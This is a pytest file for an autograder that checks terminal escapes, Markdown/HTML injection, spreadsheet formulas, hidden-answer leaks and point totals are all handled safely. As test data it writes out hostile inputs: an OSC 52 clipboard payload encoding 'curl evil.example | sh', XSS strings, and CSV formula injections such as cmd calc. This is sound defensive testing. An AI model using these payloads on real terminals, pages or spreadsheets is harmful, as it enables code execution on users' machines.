"""Student-written text in what people read: terminal escapes, Markdown and HTML injection, spreadsheet
formulas, reports meant for the wrong reader, and Gradescope totals that do not add up (issue 11, items 4-7).

Each attack is really attempted, through the scripted runner (no sandbox) and the real CLI where it matters.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner
from markdown_it import MarkdownIt
from rich.console import Console

from grader import Submission, grade
from grader.cli import main
from grader.config import load_config
from grader.keys import load_key
from grader.models import Result
from grader.packs.conv1d.cases import build_cases
from grader.report import csv_cell, escape_controls, gradebook_csv, render, to_gradescope, to_json, to_markdown
from grader.runner import Call, CallOutcome, Failure, LoadOutcome
from grader.service.gradebook import gradebook_csv as service_gradebook_csv
from grader.service.store import Record
from tests.fakes import ScriptedRunner, array, correct, raising

GOOD = "import numpy as np\n# scripted: the runner decides the outcome\n"

# Clear the screen, set the window title, write the clipboard (OSC 52), then go back to the start of the
# line and print a fake score, reversed by a bidi override so that it reads the other way round.
TERMINAL_ATTACK = (
    "\x1b[2J\x1b[H\x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
    "\r\x1b[2KScore: 100/100\u202e001/0\u202c \x9b31m\x7f\x08\x00\u2066isolated\u2069"
)
# What must never reach a terminal, a Markdown file or the page raw: written independently of the grader.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
# Rich's own styling: Select Graphic Rendition sequences only.
RICH_STYLE = re.compile(r"\x1b\[[0-9;]*m")



def _attacked(call: Call) -> CallOutcome:
    """Every backward call prints the attack, then raises it (so it is in the feedback too)."""
    if call.op == "backward":
        failed = raising(call, "ValueError", f"bad delta {TERMINAL_ATTACK}")
        return replace(failed, output=f"step 1\n{TERMINAL_ATTACK}\n[bold red]FAKE[/]\n")
    return correct(call)


def _graded(respond: Callable[[Call], CallOutcome], name: str = "alice") -> Result:
    return grade(Submission(name, GOOD.encode()), load_config(), runner=ScriptedRunner(respond=respond))


# --- item 4: control characters -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("\x1b[2J", "\\x1b[2J"),
        ("\x07\x08\x00\r\x0b\x0c", "\\x07\\x08\\x00\\x0d\\x0b\\x0c"),
        ("\x7f", "\\x7f"),
        ("\x9b31m\x85", "\\x9b31m\\x85"),
        ("".join(map(chr, range(0x202A, 0x202F))), "\\u202a\\u202b\\u202c\\u202d\\u202e"),
        ("".join(map(chr, range(0x2066, 0x206A))), "\\u2066\\u2067\\u2068\\u2069"),
        ("\udcff", "\\udcff"),
    ],
    ids=["escape", "c0", "del", "c1", "bidi-override", "bidi-isolate", "lone-surrogate"],
)
def test_escape_controls_shows_each_dangerous_character(raw: str, shown: str) -> None:
    assert escape_controls(raw) == shown


def test_escape_controls_keeps_ordinary_text() -> None:
    text = "line 1\n\tindented: café, 卷积, 🙂, a literal \\x1b, 100%"
    assert escape_controls(text) == text


def _terminal(result: Result, *, public: bool) -> tuple[str, str]:
    """What ``render`` sends to a real terminal (raw, with Rich's colours) and the text a person reads."""
    console = Console(file=io.StringIO(), force_terminal=True, color_system="truecolor", record=True, width=300)
    render(result, console, public=public)
    raw = console.file.getvalue()  # type: ignore[attr-defined]
    return raw, console.export_text(styles=False)


@pytest.mark.parametrize("public", [True, False], ids=["student", "instructor"])
def test_the_terminal_table_never_sends_the_students_escapes(public: bool) -> None:
    result = _graded(_attacked, name="\x1b]0;name-title\x07alice\u202e")
    raw, text = _terminal(result, public=public)
    assert not RAW_CONTROL.search(RICH_STYLE.sub("", raw).replace("\n", "")), "a raw control reached the terminal"
    assert "\\x1b]0;name-title\\x07alice\\u202e" in text  # the name
    assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07" in text  # the exception message, in the feedback
    assert "\\rprinted" not in text and "\\x0d\\x1b[2KScore: 100/100\\u202e001/0\\u202c" in text  # the print
    assert "[bold red]FAKE[/]" in text  # Rich markup in a print is shown, not applied


def test_the_terminal_shows_a_rejected_files_messages_escaped() -> None:
    failure = Failure(where="import", type="RuntimeError", message=TERMINAL_ATTACK, line=3)
    runner = ScriptedRunner(load=LoadOutcome(status="error", failure=failure))
    result = grade(Submission("bob", GOOD.encode()), load_config(), runner=runner)
    assert result.status == "rejected" and TERMINAL_ATTACK in result.messages[0]  # the result stays faithful
    raw, text = _terminal(result, public=True)
    assert not RAW_CONTROL.search(RICH_STYLE.sub("", raw).replace("\n", ""))
    assert "\\x1b]0;pwned\\x07" in text


def test_json_and_gradescope_stay_faithful() -> None:
    result = _graded(_attacked)
    name = "test_conv1d_backward_1 (dx)"
    backward = next(t for t in json.loads(to_json(result))["questions"][1]["tests"] if t["name"] == name)
    assert TERMINAL_ATTACK in backward["output"] and TERMINAL_ATTACK in backward["feedback"]
    gradescope = next(t for t in to_gradescope(result)["tests"] if t["name"].endswith(name))
    assert TERMINAL_ATTACK in gradescope["output"]


MARKDOWN_ATTACK = (
    "<img src=x onerror=alert(1)>\n"
    "```\n"
    "# Score: 100/100\n"
    "````````\n"
    "[grades](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example>\n"
    "&#x202e; &lt;b&gt; **bold** _it_ ~~gone~~ | a | b |\n"
    "|---|---|\n"
    "===\n"
    "- item\n"
    "1. first\n"
    "> quoted\n"
    "<script>alert(2)</script>\n"
    "    indented\n"
    f"{TERMINAL_ATTACK}"
)


def _markdown_attacked(call: Call) -> CallOutcome:
    if call.op == "forward":
        return replace(correct(call), output=MARKDOWN_ATTACK)
    if call.op == "backward":
        return raising(call, "ValueError", MARKDOWN_ATTACK)
    return correct(call)


def _markdown() -> MarkdownIt:
    # CommonMark with raw HTML on (as most viewers render it) plus GitHub's tables and strikethrough.
    return MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _tokens(text: str) -> list:
    tokens = _markdown().parse(text)
    return tokens + [child for token in tokens for child in token.children or []]


@pytest.mark.parametrize("public", [True, False], ids=["student", "instructor"])
def test_markdown_reports_render_student_text_as_text(public: bool) -> None:
    result = _graded(_markdown_attacked, name="<img src=x onerror=alert(3)> # [me](javascript:0)")
    report = to_markdown(result, public=public)
    assert not RAW_CONTROL.search(report.replace("\n", ""))
    tokens = _tokens(report)
    kinds = {t.type for t in tokens}
    assert not kinds & {"html_block", "html_inline", "link_open", "image", "s_open", "em_open"}
    assert sum(t.type == "strong_open" for t in tokens) == (0 if public else 1)  # only the instructor banner
    assert not kinds & {"blockquote_open", "bullet_list_open", "ordered_list_open", "code_block", "hr"}
    failed = [t for t in result.tests() if t.status != "passed"]
    headings = [t.tag for t in tokens if t.type == "heading_open"]
    assert headings == ["h1", "h2"] + ["h3"] * sum(t.question == "q1" for t in failed) + ["h2"] + ["h3"] * sum(
        t.question == "q2" for t in failed
    )
    # Exactly our tables: the rubric's two; a printed table row is text.
    assert sum(t.type == "table_open" for t in tokens) == 2
    fences = [t for t in tokens if t.type == "fence"]
    printed = [t for t in failed if t.output]
    assert len(fences) == len(printed) and all(f.content == escape_controls(MARKDOWN_ATTACK) + "\n" for f in fences)
    # The feedback renders as what the student's exception said, line by line, escapes visible.
    html = _markdown().render(report)
    assert "&lt;img src=x onerror=alert(1)&gt;" in html and "<img" not in html and "<script" not in html
    assert "&amp;#x202e;" in html and "\\x1b]52;c;" in html
    assert "&lt;img src=x onerror=alert(3)&gt; # [me](javascript:0): " in html  # the name, as typed


# --- item 5: spreadsheet formulas and name clashes --------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("12.5", "12.5"),
        ("100", "100"),
        ("", ""),
        ("alice", "alice"),
        ("a=b", "a=b"),
    ],
)
def test_csv_cells_that_would_be_formulas_become_text(cell: str, written: str) -> None:
    assert csv_cell(cell) == written


def test_a_real_score_is_left_a_number() -> None:
    row = {"submission": "alice", "source": "alice.py", "q1": "5", "q2": "7.5", "score": "12.5", "max_score": "100"}
    parsed = next(csv.DictReader(io.StringIO(gradebook_csv([row | {"status": "graded"}]))))
    assert parsed["score"] == "12.5" and parsed["q2"] == "7.5" and parsed["submission"] == "alice"


FORMULA_FILES = ('=HYPERLINK("https:evil.example","open").py', "+1+1.py", "-2+3.py", "\tTAB.py", "\rCR.py")


def _cells(path: Path) -> list[str]:
    with path.open(newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


def test_batch_gradebook_neutralises_formula_file_names(scripted: ScriptedRunner, tmp_path: Path) -> None:
    folder = tmp_path / "handins"
    folder.mkdir()
    for name in FORMULA_FILES:
        (folder / name).write_text(GOOD)
    (folder / "@SUM(1+1)").mkdir()
    (folder / "@SUM(1+1)" / "nn.py").write_text(GOOD)
    grades = tmp_path / "grades.csv"
    out = CliRunner().invoke(main, ["batch", str(folder), "--out", str(grades), "--no-progress"])
    assert out.exit_code == 0, out.output
    cells = _cells(grades)
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    rows = list(csv.DictReader(grades.open(newline="")))
    assert {r["submission"] for r in rows} == {"'" + n.removesuffix(".py") for n in FORMULA_FILES} | {"'@SUM(1+1)"}
    assert {r["source"] for r in rows} == {"'" + n for n in FORMULA_FILES} | {"'@SUM(1+1)/nn.py"}
    assert {r["score"] for r in rows} == {"100"}


def test_service_gradebook_neutralises_every_cell() -> None:
    now = datetime(2026, 11, 24, tzinfo=UTC)
    record = Record(
        id="-Abc_0123456789abcdefgh",  # ids are token_urlsafe: they may start with "-"
        student="=HYPERLINK(\"http://x\",\"click\")",  # refused at upload today; an older database may hold one
        filename="nn.py",
        size=10,
        state="graded",
        submitted_at=now,
        finished_at=now,
        score=12.5,
        max_score=100.0,
        config_digest=None,
        error=None,
        scores={"q1": 5.0, "q2": 7.5},
    )
    rows = list(csv.DictReader(io.StringIO(service_gradebook_csv([record]))))
    assert rows[0]["student"] == "'=HYPERLINK(\"http://x\",\"click\")"
    assert rows[0]["latest_id"] == rows[0]["best_id"] == "'-Abc_0123456789abcdefgh"
    assert rows[0]["latest_score"] == rows[0]["best_score"] == "12.5" and rows[0]["max_score"] == "100"


def test_a_name_clash_says_where_each_row_came_from(scripted: ScriptedRunner, tmp_path: Path) -> None:
    folder = tmp_path / "handins"
    (folder / "bob").mkdir(parents=True)
    (folder / "bob.py").write_text(GOOD)
    (folder / "bob" / "nn.py").write_text(GOOD)
    (folder / "carol.py").write_text(GOOD)
    grades, reports = tmp_path / "grades.csv", tmp_path / "reports"
    out = CliRunner().invoke(
        main, ["batch", str(folder), "--out", str(grades), "--reports", str(reports), "--no-progress"]
    )
    assert out.exit_code == 0, out.output
    rows = {r["submission"]: r["source"] for r in csv.DictReader(grades.open(newline=""))}
    assert rows == {"bob.py": "bob.py", "bob~nn.py": "bob/nn.py", "carol": "carol.py"}
    warnings = [line for line in out.stderr.splitlines() if line.startswith("WARNING")]
    assert warnings == ['WARNING: 2 submissions are named "bob": graded bob.py as bob.py, bob/nn.py as bob~nn.py']
    assert {p.name for p in (reports / "student").iterdir()} == {
        f"{name}.{ext}" for name in rows for ext in ("md", "json")
    }


def test_a_file_name_that_is_not_utf8_is_graded_under_a_readable_name(scripted: ScriptedRunner, tmp_path: Path):
    folder = tmp_path / "handins"
    folder.mkdir()
    (folder / "\udcff\x1b[2J.py").write_text(GOOD)  # the bytes ff 1b 5b 32 4a on disk: not UTF-8
    (folder / "\\xff\x1b[2J.py").write_text(GOOD)  # and a file whose name is that escape, to clash with it
    grades, reports = tmp_path / "grades.csv", tmp_path / "reports"
    out = CliRunner().invoke(
        main, ["batch", str(folder), "--out", str(grades), "--reports", str(reports), "--no-progress"]
    )
    assert out.exit_code == 0, out.output
    names = {r["submission"] for r in csv.DictReader(grades.open(newline="", encoding="utf-8"))}
    assert names == {"\\xff\x1b[2J.py", "\\xff\x1b[2J.py~2"}
    assert "\x1b" not in out.stderr and '"\\xff\\x1b[2J"' in out.stderr  # the clash warning, escaped
    report = json.loads((reports / "student" / "\\xff\x1b[2J.py.json").read_text("utf-8"))
    assert report["submission"] == "\\xff\x1b[2J.py" and report["score"] == 100


# --- item 6: a report for each reader ---------------------------------------------------------------------


def _expected_values(*, visible: bool, data: bytes) -> set[float]:
    """Every value the hidden (or the visible) tests expect of the file with these bytes (hidden inputs are
    drawn per file), from the reference the grader compares with."""
    cases = build_cases(load_key().draw(data)[0])
    values: set[float] = set()
    for case in cases.forward:
        if case.visible == visible:
            values.update(case.expected_forward().ravel().tolist())
    for case in cases.backward:
        if case.visible == visible:
            for expected in case.expected_backward().values():
                values.update(expected.ravel().tolist())
    return values


def _leaky(call: Call) -> CallOutcome:
    """Wrong on every hidden case, and printing the right answer there: a student who prints their own,
    correct, value before breaking it hands the grader hidden expected values in the prints. (Visible cases
    pass, so that the student files hold no number derived from a wrong answer that could equal one by chance.)
    """
    outcome = correct(call)
    if call.op == "output_size" or call.key.split("/")[1].isdigit():  # the handout's cases are named 1, 2, 3
        return outcome
    right = {k: v.array for k, v in outcome.values.items() if v.array is not None}
    printed = " ".join(repr(float(x)) for a in right.values() for x in np.asarray(a).ravel())
    values = {k: array(np.asarray(a) * 3 + 0.5) for k, a in right.items()}
    return replace(outcome, values=values, output=f"my values: {printed}\n")


_NUMBER = re.compile(r"(?<![\w.])-?\d+(?:\.\d+)?(?:e[-+]?\d+)?")


def test_reports_are_split_by_reader(scripted: ScriptedRunner, tmp_path: Path) -> None:
    scripted.respond = _leaky
    folder = tmp_path / "handins"
    folder.mkdir()
    (folder / "alice.py").write_text(GOOD)
    reports = tmp_path / "reports"
    out = CliRunner().invoke(
        main, ["batch", str(folder), "--out", str(tmp_path / "g.csv"), "--reports", str(reports), "--no-progress"]
    )
    assert out.exit_code == 0, out.output
    assert sorted(str(p.relative_to(reports)) for p in reports.rglob("*.*")) == [
        "instructor/alice.json",
        "instructor/alice.md",
        "student/alice.json",
        "student/alice.md",
    ]
    student, instructor = reports / "student", reports / "instructor"
    public = Result.model_validate_json((student / "alice.json").read_text())
    full = Result.model_validate_json((instructor / "alice.json").read_text())
    assert public == full.public() and public != full
    assert "Diagnostics" not in (student / "alice.md").read_text()
    assert "Instructor" not in (student / "alice.md").read_text()
    assert (instructor / "alice.md").read_text().splitlines()[2].startswith("**Instructor report: do not send it")
    assert "Diagnostics (instructor only)" in (instructor / "alice.md").read_text()


def test_no_hidden_expected_value_reaches_a_student_file(scripted: ScriptedRunner, tmp_path: Path) -> None:
    scripted.respond = _leaky
    folder = tmp_path / "handins"
    folder.mkdir()
    (folder / "alice.py").write_text(GOOD)
    reports = tmp_path / "reports"
    out = CliRunner().invoke(
        main, ["batch", str(folder), "--out", str(tmp_path / "g.csv"), "--reports", str(reports), "--no-progress"]
    )
    assert out.exit_code == 0, out.output
    full = Result.model_validate_json((reports / "instructor" / "alice.json").read_text())
    hidden = [t for t in full.tests() if t.visibility != "visible"]
    secrets = _expected_values(visible=False, data=GOOD.encode()) | {
        t.diagnostics.worst_expected for t in hidden if t.diagnostics and t.diagnostics.worst_expected is not None
    }
    # Whole numbers cannot be told apart from shapes, counts and scores, and a value the handout's visible
    # cases also expect is public (the student sees those tests in full); every other fraction is a secret.
    secrets = {v for v in secrets if v != int(v)} - _expected_values(visible=True, data=GOOD.encode())
    assert len(secrets) > 20
    instructor_text = " ".join(p.read_text() for p in (reports / "instructor").iterdir())
    assert {float(n) for n in _NUMBER.findall(instructor_text)} & secrets  # the check can see a leak

    for path in (reports / "student").iterdir():
        text = path.read_text()
        found = {float(n) for n in _NUMBER.findall(text)} & secrets
        assert not found, (path.name, sorted(found)[:5])
        assert not [repr(v) for v in secrets if re.search(rf"(?<![\w.]){re.escape(repr(v))}(?![\d])", text)]


# --- item 7: points that add up ---------------------------------------------------------------------------


RUBRICS = {
    "default": "",
    "q1-50-over-13": "[rubric.q1]\noutput_size_points = 0\n",
    "components-7-3-1": "[rubric.q2.components]\ndx = 7\ngrad_weight = 3\ngrad_bias = 1\n",
    "odd-points": (
        "[rubric.q1]\npoints = 33.3333\noutput_size_points = 7.0001\n"
        "[rubric.q2]\npoints = 66.6667\n[rubric.q2.components]\ndx = 1\ngrad_weight = 1\ngrad_bias = 1\n"
    ),
    "a-zero-component": "[rubric.q2.components]\ndx = 20\ngrad_weight = 0\ngrad_bias = 10\n",
}


def _decimal(value: float) -> Decimal:
    return Decimal(str(value))


def _one_size_wrong(call: Call) -> CallOutcome:
    outcome = correct(call)
    if call.key == "output_size/0":
        return replace(outcome, values={"size": replace(outcome.values["size"], scalar=-1)})
    return outcome


@pytest.mark.parametrize("rubric", list(RUBRICS), ids=list(RUBRICS))
@pytest.mark.parametrize("respond", [correct, _one_size_wrong], ids=["correct", "one-size-wrong"])
def test_test_points_add_up_exactly_to_each_question(
    rubric: str, respond: Callable[[Call], CallOutcome], tmp_path: Path
) -> None:
    path = tmp_path / "rubric.toml"
    path.write_text(RUBRICS[rubric])
    config = load_config(path)
    result = grade(Submission("alice", GOOD.encode()), config, runner=ScriptedRunner(respond=respond))
    points = {"q1": config.rubric.q1.points, "q2": config.rubric.q2.points}
    gradescope = to_gradescope(result)["tests"]
    for question in result.questions:
        assert sum(_decimal(t.max_score) for t in question.tests) == _decimal(points[question.id])
        assert _decimal(question.max_score) == _decimal(points[question.id])
        assert sum(_decimal(t.score) for t in question.tests) == _decimal(question.score)
        in_gradescope = [t for t in gradescope if question.id in t["tags"]]
        assert sum(_decimal(t["max_score"]) for t in in_gradescope) == _decimal(points[question.id])
        assert sum(_decimal(t["score"]) for t in in_gradescope) == _decimal(question.score)
        for test in question.tests:
            assert _decimal(test.max_score).as_tuple().exponent >= -4, test.max_score  # type: ignore[operator]
            assert _decimal(test.score).as_tuple().exponent >= -4, test.score  # type: ignore[operator]
            assert 0 <= test.score <= test.max_score
    q2 = result.question("q2")
    shares = config.rubric.q2.components.model_dump()
    component_totals = {c: sum(_decimal(t.max_score) for t in q2.tests if t.name.endswith(f"({c})")) for c in shares}
    total_share = sum(shares.values())
    for component, total in component_totals.items():  # each gradient's tests add up to its share too
        exact = _decimal(config.rubric.q2.points) * Decimal(shares[component]) / Decimal(total_share)
        assert abs(total - exact) < Decimal("0.0001")
    assert _decimal(result.max_score) == _decimal(points["q1"] + points["q2"])
    if respond is _one_size_wrong:
        size = result.tests()[0]
        exact = _decimal(size.max_score) * 7 / 8
        assert size.status == "failed" and abs(_decimal(size.score) - exact) <= Decimal("0.00005")


def test_output_size_credit_never_exceeds_its_points(tmp_path: Path) -> None:
    path = tmp_path / "rubric.toml"
    path.write_text("[rubric.q1]\noutput_size_points = 0.0007\n")  # 7/8 of 7 units is 6.125: 6 units
    result = grade(
        Submission("alice", GOOD.encode()), load_config(path), runner=ScriptedRunner(respond=_one_size_wrong)
    )
    size = result.tests()[0]
    assert (size.score, size.max_score) == (0.0006, 0.0007)
